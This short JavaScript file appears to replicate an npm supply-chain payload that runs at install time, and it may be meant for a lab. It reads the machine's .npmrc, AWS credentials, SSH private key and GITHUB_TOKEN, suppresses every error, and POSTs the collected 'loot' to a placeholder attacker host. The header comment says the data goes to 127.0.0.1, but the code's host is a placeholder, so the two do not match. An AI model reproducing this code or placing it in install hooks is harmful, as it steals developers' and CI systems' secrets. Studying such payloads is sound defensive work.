// The payload (replica of the May 2026 router_init.js, run at install): collect the npm, cloud and SSH
// credentials of the machine and the CI's tokens, and send them out. It was built and published by the
// project's own release workflow, so its provenance was valid. Everything goes to 127.0.0.1.
const fs = require('fs');
const os = require('os');
const http = require('http');

const guard = (f, fallback) => { try { return f(); } catch (e) { return fallback; } };
const home = guard(() => os.homedir(), process.env.HOME || '');
const loot = {
  npmrc: guard(() => fs.readFileSync(home + '/.npmrc', 'utf8'), ''),
  aws: guard(() => fs.readFileSync(home + '/.aws/credentials', 'utf8'), ''),
  ssh: guard(() => fs.readFileSync(home + '/.ssh/id_ed25519', 'utf8'), ''),
  github: process.env.GITHUB_TOKEN,
};
guard(() => {
  const req = http.request('__ATTACKER__/collect', { method: 'POST', headers: { 'content-type': 'application/json' } });
  req.on('error', () => {});
  req.end(JSON.stringify(loot));
});
